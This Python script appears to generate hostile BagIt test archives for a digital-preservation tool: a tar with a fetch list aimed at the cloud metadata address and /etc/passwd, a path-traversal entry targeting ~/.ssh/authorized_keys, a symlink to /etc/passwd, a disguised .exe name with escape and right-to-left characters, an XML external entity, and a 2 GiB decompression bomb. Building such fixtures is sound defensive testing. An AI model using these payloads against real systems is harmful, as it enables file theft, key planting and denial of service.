"""The hostile packages of docs/transcripts/hostile.md: usage: hostile_gift.py FOLDER"""

import sys

from hostile_kinds.making import DECLARATION, MIB, TAR_END, sha512, tar_entry, tar_header, write, zstd_zeros

FETCH = (b"http://169.254.169.254/latest/meta-data 10 data/a.txt\n"
         b"file:///etc/passwd 10 data/b.txt\n")
METS = b"""<!DOCTYPE mets [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<mets xmlns="http://www.loc.gov/METS/"><metsHdr>&secret;</metsHdr></mets>
"""


def gift():
    """Each part of it is a known way to do harm to who unpacks, reads or lists it."""
    letter = b"Dear colleague\n"
    listed = [b"data/letter.txt", b"data/../../../home/you/.ssh/authorized_keys", b"data/a.txt", b"data/b.txt", b"data/METS.xml",
              b"data/page.txt"]
    manifest = b"".join(sha512(letter) + b"  " + name + b"\n" for name in listed)
    return b"".join([
        tar_entry(b"gift/bagit.txt", DECLARATION),
        tar_entry(b"gift/manifest-sha512.txt", manifest),
        tar_entry(b"gift/fetch.txt", FETCH),
        tar_entry(b"gift/data/letter.txt", letter),
        tar_entry(b"gift/data/page.txt", kind=b"2", link=b"/etc/passwd"),
        tar_entry(b"gift/data/../../../home/you/.ssh/authorized_keys", letter),
        tar_entry(b"gift/data/\x1b[2Jscan\xe2\x80\xaegnp.exe", b"MZ"),
        tar_entry(b"gift/data/METS.xml", METS),
        TAR_END,
    ])


def bomb():
    """2 GiB of zeros in 64 KiB; the bytes do not depend on any library."""
    head = tar_entry(b"parcel/bagit.txt", DECLARATION) + tar_header(b"parcel/data/zeros.bin", 2048 * MIB)
    return zstd_zeros(2048, head)


if __name__ == "__main__":
    write(sys.argv[1] + "/gift.tar", gift())
    write(sys.argv[1] + "/parcel.tar.zst", bomb())
